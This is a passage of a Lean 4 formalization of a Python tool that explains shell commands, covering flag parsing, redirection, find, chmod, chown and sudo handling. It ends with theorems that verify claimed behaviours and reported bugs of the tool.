    match (truncBreakOne truncated ". ").orElse (fun _ =>
      (truncBreakOne truncated ", ").orElse (fun _ => truncBreakOne truncated "; ")) with
    | some s => s
    | none => truncated ++ "..."

/-- All characters of a (nonempty) list are equal: `len(set(arg[1:])) == 1`. -/
def allSame : List Char → Bool
  | [] => true
  | c :: rest => rest.all (fun x => x = c)

/-- `arg[:i]`-descending scan of `parse_combined_flags`
(`for i in range(len(arg) - 1, 1, -1)`): the longest known proper prefix of
length at least 2, with its description and the remaining characters. -/
def prefixScan (arg : String) (flags : List (String × String)) :
    Nat → Option (String × String × String)
  | 0 => none
  | 1 => none
  | n + 2 =>
    let pre := String.mk (arg.data.take (n + 2))
    match dictGet flags pre with
    | some d => some (pre, d, String.mk (arg.data.drop (n + 2)))
    | none => prefixScan arg flags (n + 1)

/-- Explain each character of `cs` that matches a known single-letter flag. -/
def perCharFlags (flags : List (String × String)) (cs : List Char) :
    List (String × String) :=
  cs.filterMap (fun c =>
    (dictGet flags (String.mk ['-', c])).map (fun d => (String.mk ['-', c], d)))

/-- `parse_combined_flags` (cli.py lines 160-199): exact match, then
repeated single letters, then longest known prefix plus per-character rest,
then the per-character fallback. -/
def parse_combined_flags (arg : String) (flags : List (String × String)) :
    List (String × String) :=
  if !(strStarts arg "-") || arg.length < 2 then []
  else
    match dictGet flags arg with
    | some d => [(arg, d)]
    | none =>
      let cs := arg.data.drop 1
      let repeatedRes : Option (List (String × String)) :=
        if arg.length > 2 && allSame cs then
          match cs with
          | c :: _ =>
            match dictGet flags (String.mk ['-', c]) with
            | some d => some [(arg, d ++ " (repeated " ++ Nat.repr (arg.length - 1) ++ " times)")]
            | none => none
          | [] => none
        else none
      match repeatedRes with
      | some r => r
      | none =>
        let prefixRes : Option (List (String × String)) :=
          if arg.length > 2 then
            match prefixScan arg flags (arg.length - 1) with
            | some pdr => some ((pdr.1, pdr.2.1) :: perCharFlags flags pdr.2.2.data)
            | none => none
          else none
        match prefixRes with
        | some r => r
        | none => perCharFlags flags cs

end ExplainCli

namespace ExplainCli

/-! ## cli.py — _analyze_single_command -/

/-- Python `arg.partition('=')`. -/
def pyPartitionEq (s : String) : String × String × String :=
  match splitFirstChar '=' s.data with
  | some pq => (String.mk pq.1, "=", String.mk pq.2)
  | none => (s, "", "")

/-- The argument-explanation loop of the known-command branch
(cli.py lines 569-598); a long flag or a known short flag may consume the
following token as its value. -/
def explainArgsKnown (flags : List (String × String)) : List String → List String
  | [] => []
  | [arg] =>
    if strStarts arg "--" then
      let nev := pyPartitionEq arg
      match dictGet flags nev.1 with
      | some d =>
        let td := truncate_description d
        if nev.2.1 ≠ "" && nev.2.2 ≠ "" then
          [("  " ++ nev.1 ++ ": " ++ td ++ " (value: " ++ nev.2.2 ++ ")")]
        else [("  " ++ nev.1 ++ ": " ++ td)]
      | none => []
    else if strStarts arg "-" && arg.length > 2 then
      (parse_combined_flags arg flags).map
        (fun p => "  " ++ p.1 ++ ": " ++ truncate_description p.2)
    else
      match dictGet flags arg with
      | some d => [("  " ++ arg ++ ": " ++ truncate_description d)]
      | none => []
  | arg :: next :: rest =>
    if strStarts arg "--" then
      let nev := pyPartitionEq arg
      match dictGet flags nev.1 with
      | some d =>
        let td := truncate_description d
        if nev.2.1 ≠ "" && nev.2.2 ≠ "" then
          ("  " ++ nev.1 ++ ": " ++ td ++ " (value: " ++ nev.2.2 ++ ")") ::
            explainArgsKnown flags (next :: rest)
        else if !strStarts next "-" then
          ("  " ++ nev.1 ++ ": " ++ td ++ " (value: " ++ next ++ ")") ::
            explainArgsKnown flags rest
        else ("  " ++ nev.1 ++ ": " ++ td) :: explainArgsKnown flags (next :: rest)
      | none => explainArgsKnown flags (next :: rest)
    else if strStarts arg "-" && arg.length > 2 then
      (parse_combined_flags arg flags).map
        (fun p => "  " ++ p.1 ++ ": " ++ truncate_description p.2)
      ++ explainArgsKnown flags (next :: rest)
    else
      match dictGet flags arg with
      | some d =>
        if !strStarts next "-" then
          ("  " ++ arg ++ ": " ++ truncate_description d ++ " (value: " ++ next ++ ")") ::
            explainArgsKnown flags rest
        else ("  " ++ arg ++ ": " ++ truncate_description d) ::
          explainArgsKnown flags (next :: rest)
      | none => explainArgsKnown flags (next :: rest)

/-- The argument-explanation loop of the unknown-command branch
(cli.py lines 606-635): additionally recognizes subcommands, and renders a
known short flag's description without truncation. -/
def explainArgsUnknown (flags subcommands : List (String × String)) :
    List String → List String
  | [] => []
  | [arg] =>
    if strStarts arg "--" then
      let nev := pyPartitionEq arg
      match dictGet flags nev.1 with
      | some d =>
        let td := truncate_description d
        if nev.2.1 ≠ "" && nev.2.2 ≠ "" then
          [("  " ++ nev.1 ++ ": " ++ td ++ " (value: " ++ nev.2.2 ++ ")")]
        else [("  " ++ nev.1 ++ ": " ++ td)]
      | none => []
    else if strStarts arg "-" && arg.length > 2 then
      (parse_combined_flags arg flags).map
        (fun p => "  " ++ p.1 ++ ": " ++ truncate_description p.2)
    else
      match dictGet flags arg with
      | some d => [("  " ++ arg ++ ": " ++ d)]
      | none =>
        match dictGet subcommands arg with
        | some d => [("  " ++ arg ++ ": " ++ d)]
        | none => []
  | arg :: next :: rest =>
    if strStarts arg "--" then
      let nev := pyPartitionEq arg
      match dictGet flags nev.1 with
      | some d =>
        let td := truncate_description d
        if nev.2.1 ≠ "" && nev.2.2 ≠ "" then
          ("  " ++ nev.1 ++ ": " ++ td ++ " (value: " ++ nev.2.2 ++ ")") ::
            explainArgsUnknown flags subcommands (next :: rest)
        else if !strStarts next "-" then
          ("  " ++ nev.1 ++ ": " ++ td ++ " (value: " ++ next ++ ")") ::
            explainArgsUnknown flags subcommands rest
        else ("  " ++ nev.1 ++ ": " ++ td) :: explainArgsUnknown flags subcommands (next :: rest)
      | none => explainArgsUnknown flags subcommands (next :: rest)
    else if strStarts arg "-" && arg.length > 2 then
      (parse_combined_flags arg flags).map
        (fun p => "  " ++ p.1 ++ ": " ++ truncate_description p.2)
      ++ explainArgsUnknown flags subcommands (next :: rest)
    else
      match dictGet flags arg with
      | some d =>
        if !strStarts next "-" then
          ("  " ++ arg ++ ": " ++ d ++ " (value: " ++ next ++ ")") ::
            explainArgsUnknown flags subcommands rest
        else ("  " ++ arg ++ ": " ++ d) :: explainArgsUnknown flags subcommands (next :: rest)
      | none =>
        match dictGet subcommands arg with
        | some d => ("  " ++ arg ++ ": " ++ d) ::
            explainArgsUnknown flags subcommands (next :: rest)
        | none => explainArgsUnknown flags subcommands (next :: rest)

/-- The redirection-operator test of cli.py lines 643 and 678:
`tok in ('>', '>>') or (len(tok) <= 3 and tok.endswith(('>', '>>')) and tok[:-1].isdigit())`. -/
def isRedirOp (tok : String) : Bool :=
  tok = ">" || tok = ">>" ||
  (tok.length ≤ 3 && strEnds tok ">" && pyIsDigit (pyDropLast1 tok))

/-- Redirection detection (cli.py lines 638-647): each detected operator
captures the immediately following token as target and skips it. -/
def detectRedirs : List String → List (String × String)
  | [] => []
  | tok :: rest =>
    if isRedirOp tok then
      match rest with
      | t :: rest' => (tok, t) :: detectRedirs rest'
      | [] => []
    else detectRedirs rest

/-- The same traversal as `detectRedirs`, collecting the target indices
(cli.py lines 674-682). -/
def redirTargetIdxAux : List String → Nat → List Nat
  | [], _ => []
  | tok :: rest, i =>
    if isRedirOp tok then
      match rest with
      | _ :: rest' => (i + 1) :: redirTargetIdxAux rest' (i + 2)
      | [] => []
    else redirTargetIdxAux rest (i + 1)

/-- Signal-flag explanation lines appended inside the consumed-value loop
for `kill`/`killall` (cli.py lines 654-659). -/
def killSigLines : List String → List String
  | [] => []
  | arg :: rest =>
    match explain_signal_flag arg rest.head? with
    | some line => line :: killSigLines rest
    | none => killSigLines rest

/-- The consumed-value indices of cli.py lines 650-672: for `kill`/`killall`
only an `-s` value is consumed; otherwise (except for `find`) a `--flag`
without `=value` consumes a following non-dash token. -/
def consumedIdxAux (command : String) : List String → Nat → List Nat
  | [], _ => []
  | [_], _ => []
  | arg :: next :: rest, i =>
    if command = "kill" || command = "killall" then
      (match explain_signal_flag arg (some next) with
        | some _ =>
          if arg = "-s" && next ≠ "" && !strStarts next "-" then [i + 1] else []
        | none => []) ++ consumedIdxAux command (next :: rest) (i + 1)
    else if command ≠ "find" && strStarts arg "--" then
      let nev := pyPartitionEq arg
      if nev.2.1 ≠ "" && nev.2.2 ≠ "" then consumedIdxAux command (next :: rest) (i + 1)
      else if !strStarts next "-" then (i + 1) :: consumedIdxAux command rest (i + 2)
      else consumedIdxAux command (next :: rest) (i + 1)
    else consumedIdxAux command (next :: rest) (i + 1)

/-- `positional_args` (cli.py line 695). -/
def positionalArgs (args : List String) (consumed redirTargets : List Nat)
    (recognizedSubs : List (String × String)) : List String :=
  args.enum.filterMap (fun p =>
    if p.1 ∉ consumed && p.1 ∉ redirTargets && !strStarts p.2 "-" &&
        !dictMem recognizedSubs p.2 then some p.2 else none)

/-- `-type` value rendering. -/
def findTypeDesc (value : String) : String :=
  (dictGet [("f", "regular file"), ("d", "directory"), ("l", "symbolic link")] value).getD value

/-- Rendering of a value-taking find predicate (duplicated in cli.py at the
top level with a two-space indent, lines 722-754, and inside the sudo
branch with a four-space indent, lines 469-502). -/
def findValueLine (indent arg value : String) (find_flags : List (String × String)) : String :=
  if arg = "-name" then indent ++ "-name: find files matching pattern '" ++ value ++ "'"
  else if arg = "-type" then indent ++ "-type: find items of type '" ++ findTypeDesc value ++ "'"
  else if arg = "-mtime" then
    if strStarts value "+" then
      indent ++ "-mtime: find files modified more than " ++ pyDrop1 value ++ " days ago"
    else if strStarts value "-" then
      indent ++ "-mtime: find files modified less than " ++ pyDrop1 value ++ " days ago"
    else indent ++ "-mtime: find files modified exactly " ++ value ++ " days ago"
  else if arg = "-mmin" then
    if strStarts value "+" then
      indent ++ "-mmin: find files modified more than " ++ pyDrop1 value ++ " minutes ago"
    else if strStarts value "-" then
      indent ++ "-mmin: find files modified less than " ++ pyDrop1 value ++ " minutes ago"
    else indent ++ "-mmin: find files modified exactly " ++ value ++ " minutes ago"
  else if arg = "-size" then indent ++ "-size: find files of size " ++ value
  else if arg = "-user" then indent ++ "-user: find files owned by user '" ++ value ++ "'"
  else if arg = "-group" then indent ++ "-group: find files owned by group '" ++ value ++ "'"
  else if arg = "-perm" then indent ++ "-perm: find files with permissions " ++ value
  else if arg = "-exec" then indent ++ "-exec: execute command '" ++ value ++ "' on found files"
  else indent ++ arg ++ ": " ++ ((dictGet find_flags arg).getD "") ++ " (value: " ++ value ++ ")"

/-- Rendering of a valueless find predicate, with its warning for `-delete`
(duplicated at cli.py lines 757-772/774-790 and 504-519/521-537). -/
def findFlagOnly (indent arg : String) (find_flags : List (String × String)) :
    String × List String :=
  if arg = "-delete" then
    (indent ++ "-delete: delete found files (dangerous)",
     ["The -delete flag will permanently remove files"])
  else if arg = "-print" then (indent ++ "-print: print found files (default action)", [])
  else if arg = "-ls" then (indent ++ "-ls: list found files in long format", [])
  else if arg = "-executable" then (indent ++ "-executable: find executable files", [])
  else if arg = "-readable" then (indent ++ "-readable: find readable files", [])
  else if arg = "-writable" then (indent ++ "-writable: find writable files", [])
  else (indent ++ arg ++ ": " ++ ((dictGet find_flags arg).getD ""), [])

/-- The `is_value` test for the token following a find predicate
(cli.py lines 714-720 and 461-467). -/
def findIsValue (next_arg : String) : Bool :=
  !strStarts next_arg "-" || pyIsDigit (pyDrop1 next_arg) || strStarts next_arg "+" ||
  next_arg = "\x7b\x7d" || next_arg = ";" ||
  (next_arg.length > 1 && (next_arg.data.drop 1).take 1 ≠ [] &&
    (next_arg.data.drop 1).take 1 = [((next_arg.data.drop 1).headD ' ')] &&
    ((next_arg.data.drop 1).headD ' ').isDigit)

/-- The find predicate walk (cli.py lines 705-802, and lines 453-547 inside
the sudo branch with a deeper indent). -/
def findWalk (indent : String) (find_flags : List (String × String)) :
    List String → List String × List String
  | [] => ([], [])
  | [arg] =>
    if dictMem find_flags arg then
      let lw := findFlagOnly indent arg find_flags
      ([lw.1], lw.2)
    else if arg = "\x7b\x7d" || arg = ";" then ([], [])
    else ([indent ++ "argument: " ++ arg], [])
  | arg :: next :: rest =>
    if dictMem find_flags arg then
      if findIsValue next then
        let r := findWalk indent find_flags rest
        (findValueLine indent arg next find_flags :: r.1, r.2)
      else
        let lw := findFlagOnly indent arg find_flags
        let r := findWalk indent find_flags (next :: rest)
        (lw.1 :: r.1, lw.2 ++ r.2)
    else if arg = "\x7b\x7d" || arg = ";" then findWalk indent find_flags (next :: rest)
    else
      let r := findWalk indent find_flags (next :: rest)
      ((indent ++ "argument: " ++ arg) :: r.1, r.2)

/-- `re.fullmatch(r"0?[0-7]{3}", mode)`: exactly three octal digits,
optionally preceded by a literal `0`. -/
def isOctal3 (mode : String) : Bool :=
  let octal := ['0', '1', '2', '3', '4', '5', '6', '7']
  (mode.data.length = 3 && mode.data.all (fun c => c ∈ octal)) ||
  (mode.data.length = 4 && mode.data.take 1 = ['0'] &&
    (mode.data.drop 1).all (fun c => c ∈ octal))

/-- One decomposed octal-digit line of the chmod specialization
(cli.py lines 818-828): the digit value's read/write/execute bits joined
with `/`, or `none` when no bit is set. -/
def chmodDigitLine (label : String) (d : Char) : String :=
  let val := d.toNat - '0'.toNat
  let perms := (if val &&& 4 ≠ 0 then ["read"] else []) ++
    (if val &&& 2 ≠ 0 then ["write"] else []) ++
    (if val &&& 1 ≠ 0 then ["execute"] else [])
  let permStr := if perms = ([] : List String) then "none" else pyJoin "/" perms
  "  " ++ label ++ ": " ++ String.mk [d] ++ " (" ++ permStr ++ ")"

/-- The chmod specialization (cli.py lines 809-837). -/
def chmodLines (positional : List String) : List String :=
  match positional with
  | [] => []
  | mode :: rest =>
    let targetStr := pyJoin ", " rest
    let targetLines := if rest ≠ [] && targetStr ≠ "" then ["  target: " ++ targetStr] else []
    if isOctal3 mode then
      let digits := mode.data.drop (mode.data.length - 3)
      ("  mode: " ++ mode) ::
        List.zipWith chmodDigitLine ["owner", "group", "others"] digits ++ targetLines
    else
      ("  mode: " ++ mode) :: targetLines

/-- The chown specialization (cli.py lines 838-856). -/
def chownLines (positional : List String) : List String :=
  match positional with
  | [] => []
  | owner_group :: targets =>
    let og :=
      match splitFirstChar ':' owner_group.data with
      | some pq =>
        ((if pq.1 ≠ [] then some (String.mk pq.1) else none),
         (if pq.2 ≠ [] then some (String.mk pq.2) else none))
      | none => (some owner_group, (none : Option String))
    let idHint (val : String) : String := if pyIsDigit val then " (numeric id)" else ""
    (match og.1 with
      | some o => ["  owner: " ++ o ++ idHint o]
      | none => [])
    ++ (match og.2 with
      | some g => ["  group: " ++ g ++ idHint g]
      | none => [])
    ++ (if targets ≠ [] then ["  target: " ++ pyJoin ", " targets] else [])

/-- The echo specialization (cli.py lines 857-860). -/
def echoLines (positional : List String) : List String :=
  match positional with
  | [] => []
  | first :: _ =>
    ["- echo: prints a line of text to standard output",
     "- \"" ++ first ++ "\": the string being printed"]

/-- The grep specialization (cli.py lines 803-808). -/
def grepLines (positional : List String) : List String :=
  match positional with
  | [] => []
  | pat :: rest =>
    ("  pattern: " ++ pat)
    :: (if looks_like_regex pat then ["  regex: " ++ explain_regex pat] else [])
    ++ (if rest ≠ [] then ["  files: " ++ pyJoin ", " rest] else [])

/-- Redirection rendering (cli.py lines 864-874): one explanation line per
detected redirection matching one of the rendered operator shapes, plus a
warning for `>`/`1>`. -/
def redirLines : List (String × String) → List String × List String
  | [] => ([], [])
  | (op, target) :: rest =>
    let r := redirLines rest
    if op = ">" || op = "1>" then
      (("- " ++ op ++ " " ++ target ++ ": redirects the output into a file named " ++
        target ++ " (overwrites file if it exists)") :: r.1,
       ("This command overwrites " ++ target ++ ". Any existing content will be lost.") :: r.2)
    else if op = ">>" || op = "1>>" then
      (("- " ++ op ++ " " ++ target ++ ": appends standard output to " ++ target) :: r.1, r.2)
    else if strStarts op "2" && strEnds op ">>" then
      (("- " ++ op ++ " " ++ target ++ ": appends standard error to " ++ target) :: r.1, r.2)
    else if strStarts op "2" && strEnds op ">" then
      (("- " ++ op ++ " " ++ target ++ ": redirects standard error to " ++ target ++
        " (overwrites)") :: r.1, r.2)
    else r

/-- Sub-command flag lines in the sudo branch when the sub-command is in
the knowledge base (cli.py lines 398-412). -/
def sudoKnownFlagLines (flags : List (String × String)) : List String → List String
  | [] => []
  | arg :: rest =>
    (if strStarts arg "--" && dictMem flags arg then
      ["    " ++ arg ++ ": " ++ ((dictGet flags arg).getD "")]
    else if strStarts arg "-" && arg.length > 2 then
      match dictGet flags arg with
      | some d => ["    " ++ arg ++ ": " ++ d]
      | none => (arg.data.drop 1).filterMap (fun c =>
          (dictGet flags (String.mk ['-', c])).map
            (fun d => "    " ++ String.mk ['-', c] ++ ": " ++ d))
    else
      match dictGet flags arg with
      | some d => ["    " ++ arg ++ ": " ++ d]
      | none => []) ++ sudoKnownFlagLines flags rest

/-- Sub-command flag/subcommand lines in the sudo branch when the
sub-command is not in the knowledge base (cli.py lines 422-443). -/
def sudoUnknownFlagLines (flags subcommands : List (String × String)) :
    List String → List String
  | [] => []
  | arg :: rest =>
    (if strStarts arg "--" then
      let nev := pyPartitionEq arg
      match dictGet flags nev.1 with
      | some d =>
        if nev.2.1 ≠ "" && nev.2.2 ≠ "" then
          ["    " ++ nev.1 ++ ": " ++ d ++ " (value: " ++ nev.2.2 ++ ")"]
        else ["    " ++ nev.1 ++ ": " ++ d]
      | none => []
    else if strStarts arg "-" && arg.length > 2 then
      match dictGet flags arg with
      | some d => ["    " ++ arg ++ ": " ++ d]
      | none => (arg.data.drop 1).filterMap (fun c =>
          (dictGet flags (String.mk ['-', c])).map
            (fun d => "    " ++ String.mk ['-', c] ++ ": " ++ d))
    else
      match dictGet flags arg with
      | some d => ["    " ++ arg ++ ": " ++ d]
      | none =>
        match dictGet subcommands arg with
        | some d => ["    " ++ arg ++ ": " ++ d]
        | none => []) ++ sudoUnknownFlagLines flags subcommands rest

/-- The danger warning for a knowledge-base entry (cli.py lines 559-560,
383-384, 393-394). -/
def dangerWarning (command : String) (info : KBEntry) : List String :=
  if info.danger_level = "high" || info.danger_level = "critical" then
    ["The command '" ++ command ++ "' is considered " ++ info.danger_level ++ " risk."]
  else []

/-- The flag mapping actually used by the known-command branch: the table
entry's flags (`command_info.get("flags", {})`) updated in place with the
dynamically extracted flags (cli.py lines 562-567). -/
def resolvedFlags (info : KBEntry) (details : CmdDetails) : List (String × String) :=
  dictUpdate (info.flags.getD []) details.flags

/-- The sudo branch of `_analyze_single_command` (cli.py lines 378-554). -/
def analyzeSudo (raw : Oracle) (kb : KnowledgeBase) (sub_command : String)
    (sub_args : List String) : List String × List String :=
  let header : List String × List String :=
    match dictGet kb "sudo" with
    | some info => (["sudo: " ++ info.description], dangerWarning "sudo" info)
    | none => ([], [])
  let subPart : List String × List String :=
    match dictGet kb sub_command with
    | some subInfo =>
      (("  Executing: " ++ sub_command ++ " - " ++ subInfo.description) ::
        sudoKnownFlagLines (subInfo.flags.getD []) sub_args,
       dangerWarning sub_command subInfo)
    | none =>
      let details := get_command_details raw sub_command
      ((if details.summary ≠ "" then ["  Executing: " ++ details.summary] else [])
        ++ sudoUnknownFlagLines details.flags details.subcommands sub_args, [])
  let findPart : List String × List String :=
    if sub_command = "find" && sub_args ≠ [] then
      let findDetails := get_command_details raw "find"
      let r := findWalk "    " findDetails.flags (sub_args.drop 1)
      (("  search_path: " ++ (sub_args.headD "")) :: r.1, r.2)
    else
      let remaining := sub_args.filter (fun a => !strStarts a "-")
      ((if remaining ≠ [] then ["  Arguments: " ++ pyJoin ", " remaining] else []), [])
  (header.1 ++ subPart.1 ++ findPart.1, header.2 ++ subPart.2 ++ findPart.2)

/-- `_analyze_single_command` (cli.py lines 368-876).  Returns the
explanation lines, the warnings, and the knowledge base as it stands after
the call: the known-command branch's `flags.update(dynamic_flags)` mutates
the `flags` dict stored in the table entry whenever the entry has one. -/
def analyzeSingle (raw : Oracle) (tokens : List String) (kb : KnowledgeBase) :
    List String × List String × KnowledgeBase :=
  match tokens with
  | [] => ([], [], kb)
  | command :: args =>
    if command = "sudo" && args ≠ [] then
      match args with
      | sub_command :: sub_args =>
        let r := analyzeSudo raw kb sub_command sub_args
        (r.1, r.2, kb)
      | [] => ([], [], kb)
    else
      let mainPart : List String × List String × KnowledgeBase :=
        match dictGet kb command with
        | some info =>
          let details := get_command_details raw command
          let flags := resolvedFlags info details
          let kbAfter := match info.flags with
            | some fs => kb.map (fun p =>
                if p.1 = command then
                  (p.1, { info with flags := some (dictUpdate fs details.flags) })
                else p)
            | none => kb
          ((command ++ ": " ++ info.description) :: explainArgsKnown flags args,
           dangerWarning command info, kbAfter)
        | none =>
          let details := get_command_details raw command
          ((if details.summary ≠ "" then [details.summary] else [])
            ++ explainArgsUnknown details.flags details.subcommands args, [], kb)
      let redirections := detectRedirs args
      let sigLines :=
        if command = "kill" || command = "killall" then killSigLines args else []
      let consumed := consumedIdxAux command args 0
      let redirTargets := redirTargetIdxAux args 0
      let recognizedSubs := (get_command_details raw command).subcommands
      let positional := positionalArgs args consumed redirTargets recognizedSubs
      let specialPart : List String × List String :=
        if command = "find" && args ≠ [] then
          let findDetails := get_command_details raw "find"
          let r := findWalk "  " findDetails.flags (args.drop 1)
          (("  search_path: " ++ args.headD "") :: r.1, r.2)
        else if command = "grep" && positional ≠ [] then (grepLines positional, [])
        else if command = "chmod" && positional ≠ [] then (chmodLines positional, [])
        else if command = "chown" && positional ≠ [] then (chownLines positional, [])
        else if command = "echo" && positional ≠ [] then (echoLines positional, [])
        else if positional ≠ [] then (["Arguments: " ++ pyJoin ", " positional], [])
        else ([], [])
      let redirPart := redirLines redirections
      (mainPart.1 ++ sigLines ++ specialPart.1 ++ redirPart.1,
       mainPart.2.1 ++ specialPart.2 ++ redirPart.2,
       mainPart.2.2)

end ExplainCli

namespace ExplainCli

/-! ## Claim theorems -/

/-- C9: `looks_like_regex` evaluates its rejection rules before its
acceptance rules: any token that is empty, is the literal `|`, starts with
`-`, contains `/`, or is a pure dotted-quad numeric literal is classified
as not-a-regex, regardless of any regex metacharacters it also contains;
and `^[a-z]+$` is accepted while `192.168.1.1` and `/usr/bin/foo` are
rejected. -/
theorem c9_rejection_before_acceptance :
    (∀ s : String,
      (s = "" ∨ s = "|" ∨ strStarts s "-" = true ∨ strHasSub s "/" = true ∨
        isDottedQuad s = true) →
      looks_like_regex s = false)
    ∧ looks_like_regex "^[a-z]+$" = true
    ∧ looks_like_regex "192.168.1.1" = false
    ∧ looks_like_regex "/usr/bin/foo" = false := by
  refine ⟨?_, by decide, by decide, by decide⟩
  intro s h
  unfold looks_like_regex
  rcases h with h | h | h | h | h <;> split_ifs <;> simp_all

/-- Witness for C9: the rejection rules fire on concrete tokens that also
carry regex metacharacters (a leading dash with a bracket class, anchors
around a slash, a dotted quad). -/
theorem c9_witness :
    looks_like_regex "-[a-z]+" = false ∧ looks_like_regex "^a/b$" = false ∧
    looks_like_regex "10.20.30.40" = false :=
  ⟨c9_rejection_before_acceptance.1 "-[a-z]+" (by decide),
   c9_rejection_before_acceptance.1 "^a/b$" (by decide),
   c9_rejection_before_acceptance.1 "10.20.30.40" (by decide)⟩

/-- C6: the redirection lifecycle.  The detection test
`tok[:-1].isdigit()` rejects `1>>` and `2>>` (their `tok[:-1]` is `1>` /
`2>`, which is not a digit string), so a `2>> target` pair in a segment is
not detected as a redirection: no explanation line is produced and the
target token stays among the positional arguments — contradicting the
claimed operator set `>`, `>>`, `1>`, `2>`, `1>>`, `2>>`.  Moreover the
detected overwrite-style operator `2>` produces its explanation line but
no warning, while `>` produces both. -/
theorem c6_appended_stderr_redirect_missed :
    isRedirOp "2>>" = false ∧ isRedirOp "1>>" = false ∧
    detectRedirs ["2>>", "log"] = [] ∧
    (analyzeSingle oracleEmptyFound ["ls", "2>>", "log"] COMMAND_KNOWLEDGE_BASE).1 =
      ["ls: Lists directory contents.", "Arguments: 2>>, log"] ∧
    (analyzeSingle oracleEmptyFound ["ls", "2>>", "log"] COMMAND_KNOWLEDGE_BASE).2.1 = [] ∧
    (analyzeSingle oracleEmptyFound ["ls", "2>", "log"] COMMAND_KNOWLEDGE_BASE).1 =
      ["ls: Lists directory contents.", "Arguments: 2>",
       "- 2> log: redirects standard error to log (overwrites)"] ∧
    (analyzeSingle oracleEmptyFound ["ls", "2>", "log"] COMMAND_KNOWLEDGE_BASE).2.1 = [] ∧
    (analyzeSingle oracleEmptyFound ["ls", ">", "log"] COMMAND_KNOWLEDGE_BASE).1 =
      ["ls: Lists directory contents.", "Arguments: >",
       "- > log: redirects the output into a file named log (overwrites file if it exists)"] ∧
    (analyzeSingle oracleEmptyFound ["ls", ">", "log"] COMMAND_KNOWLEDGE_BASE).2.1 =
      ["This command overwrites log. Any existing content will be lost."] := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, by decide, by decide,
    by decide, by decide⟩

/-- C2: analyzing a command does not leave the knowledge table unchanged.
When dynamic extraction returns a flag for `ls`, the known-command branch's
`flags.update(dynamic_flags)` (cli.py line 567) updates the flags dict
stored inside the static `ls` entry, because `command_info.get("flags", {})`
aliases it; after the call the table differs from the read-only snapshot
the claim demands, with the dynamic `-Z` flag persisted into the entry. -/
theorem c2_static_entry_mutated :
    (analyzeSingle
      (fun c => if c = "ls" then ⟨true, "", [("-Z", "security context")], []⟩
                else ⟨true, "", [], []⟩)
      ["ls"] COMMAND_KNOWLEDGE_BASE).2.2 ≠ COMMAND_KNOWLEDGE_BASE ∧
    dictGet ((analyzeSingle
      (fun c => if c = "ls" then ⟨true, "", [("-Z", "security context")], []⟩
                else ⟨true, "", [], []⟩)
      ["ls"] COMMAND_KNOWLEDGE_BASE).2.2) "ls" =
      some ⟨"Lists directory contents.", "low", some [
        ("-l", "Uses a long listing format."),
        ("-a", "Shows all files, including hidden files (starting with '.')."),
        ("-h", "With -l, prints sizes in human readable format (e.g., 1K 234M 2G)."),
        ("-Z", "security context")]⟩ := by
  exact ⟨by decide, by decide⟩

end ExplainCli

namespace ExplainCli

/-! ## Helper lemmas for the chmod and combined-flag claims -/

theorem strStarts_dashdash_false {s : String} (h : strStarts s "-" = false) :
    strStarts s "--" = false := by
  unfold strStarts at *
  match hd : s.data with
  | [] => decide
  | c :: rest =>
    rw [hd] at h
    show listStarts (c :: rest) ('-' :: '-' :: []) = false
    have hc : (c = '-') = False := by
      by_contra hne
      simp at hne
      simp [hne, listStarts] at h
    simp [listStarts, hc]

theorem parse_combined_flags_nilFlags (arg : String) : parse_combined_flags arg [] = [] := by
  unfold parse_combined_flags
  split
  · rfl
  · simp only [dictGet]
    have hps : ∀ n, prefixScan arg [] n = none := by
      intro n
      induction n using Nat.strong_induction_on with
      | _ n ih =>
        match n with
        | 0 => rfl
        | 1 => rfl
        | m + 2 =>
          unfold prefixScan
          simp only [dictGet]
          exact ih (m + 1) (by omega)
    simp only [hps]
    split
    · rename_i r heq
      exfalso
      split at heq <;> [skip; simp_all]
      split at heq <;> simp_all
    · split
      · rename_i r heq
        exfalso
        split at heq <;> simp_all
      · simp [perCharFlags, dictGet, List.filterMap_eq_nil_iff]

theorem explainArgsKnown_nilFlags (l : List String) : explainArgsKnown [] l = [] := by
  induction l using explainArgsKnown.induct [] with
  | _ => simp_all [explainArgsKnown, dictGet, parse_combined_flags_nilFlags]

theorem chmodRouting (mode target : String)
    (hm : strStarts mode "-" = false) (ht : strStarts target "-" = false)
    (hrm : isRedirOp mode = false) (hrt : isRedirOp target = false) :
    (analyzeSingle oracleNotFound ["chmod", mode, target] COMMAND_KNOWLEDGE_BASE).1 =
      "chmod: Changes the permissions of a file or directory." :: chmodLines [mode, target] ∧
    (analyzeSingle oracleNotFound ["chmod", mode, target] COMMAND_KNOWLEDGE_BASE).2.1 = [] := by
  have hdd : strStarts mode "--" = false := strStarts_dashdash_false hm
  have hflags : resolvedFlags ⟨"Changes the permissions of a file or directory.", "low", none⟩
      (get_command_details oracleNotFound "chmod") = [] := by decide
  have hexp : explainArgsKnown (resolvedFlags ⟨"Changes the permissions of a file or directory.", "low", none⟩
      (get_command_details oracleNotFound "chmod")) [mode, target] = [] := by
    rw [hflags]; exact explainArgsKnown_nilFlags _
  have hcons : consumedIdxAux "chmod" [mode, target] 0 = [] := by
    unfold consumedIdxAux
    simp [hdd, consumedIdxAux]
  have hredir : detectRedirs [mode, target] = [] := by
    unfold detectRedirs
    simp [hrm, hrt, detectRedirs]
  have hrt2 : redirTargetIdxAux [mode, target] 0 = [] := by
    unfold redirTargetIdxAux
    simp [hrm, hrt, redirTargetIdxAux]
  have hpos : positionalArgs [mode, target] [] [] [] = [mode, target] := by
    simp [positionalArgs, List.enum, hm, ht, dictMem, dictGet]
  have hne : decide (([mode, target] : List String) ≠ []) = true := by simp
  have hsubs : (get_command_details oracleNotFound "chmod").subcommands = [] := by decide
  have hkb : dictGet COMMAND_KNOWLEDGE_BASE "chmod" =
      some ⟨"Changes the permissions of a file or directory.", "low", none⟩ := by decide
  have hposne : decide (positionalArgs [mode, target] (consumedIdxAux "chmod" [mode, target] 0)
      (redirTargetIdxAux [mode, target] 0)
      (get_command_details oracleNotFound "chmod").subcommands ≠ []) = true := by
    rw [hcons, hrt2, hsubs, hpos]
    simp
  constructor
  · simp only [analyzeSingle, hkb, hexp, hcons, hredir, hrt2, hsubs, hpos, hposne,
      show decide ("chmod" = "sudo") = false by decide,
      show decide ("chmod" = "kill") = false by decide,
      show decide ("chmod" = "killall") = false by decide,
      show decide ("chmod" = "find") = false by decide,
      show decide ("chmod" = "grep") = false by decide,
      show decide ("chmod" = "chmod") = true by decide,
      Bool.false_and, Bool.false_or, Bool.true_and, if_false, if_true,
      Bool.false_eq_true, redirLines, dangerWarning]
